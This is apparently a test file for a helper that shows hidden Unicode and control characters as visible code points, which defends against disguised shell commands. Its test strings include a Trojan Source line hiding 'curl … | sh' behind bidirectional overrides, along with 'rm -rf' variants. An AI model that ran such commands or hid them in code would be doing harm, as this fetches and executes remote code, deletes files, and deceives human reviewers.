import { expect, test } from "bun:test";
import { CLIENT_SCRIPT } from "../../src/ui/client.ts";
import { visibleText } from "../../src/ui/visible-text.ts";

test("characters that change how a command looks are shown by code point", () => {
  // Trojan Source: shown as `echo ok # ...`, but `&& curl ... | sh` runs.
  const hidden = "echo ok #\u202e \u2066&& curl http://127.0.0.1:9/ | sh\u2069";
  expect(visibleText(hidden)).toBe(
    "echo ok #⟨U+202E⟩ ⟨U+2066⟩&& curl http://127.0.0.1:9/ | sh⟨U+2069⟩",
  );
  expect(visibleText("rm\u200b -rf x")).toBe("rm⟨U+200B⟩ -rf x");
  expect(visibleText("ls\rrm -rf /tmp/x")).toBe("ls⟨U+000D⟩rm -rf /tmp/x");
  expect(visibleText("a\u001b[2Kb\u0000c\u007fd")).toBe("a⟨U+001B⟩[2Kb⟨U+0000⟩c⟨U+007F⟩d");
  expect(visibleText("x\u061cy\ufeffz\u00adw")).toBe("x⟨U+061C⟩y⟨U+FEFF⟩z⟨U+00AD⟩w");
});

test("what a person can see is left alone: tabs, newlines, accents, other scripts, emoji", () => {
  const plain = "printf 'a\\tb'\n\tgrep -r 'héllo' . # 日本語 עברית 🙂";
  expect(visibleText(plain)).toBe(plain);
});

test("the browser script gets the same function, as source text", () => {
  expect(CLIENT_SCRIPT).toContain(visibleText.toString());
  expect(() => new Function(CLIENT_SCRIPT)).not.toThrow(); // parses
});
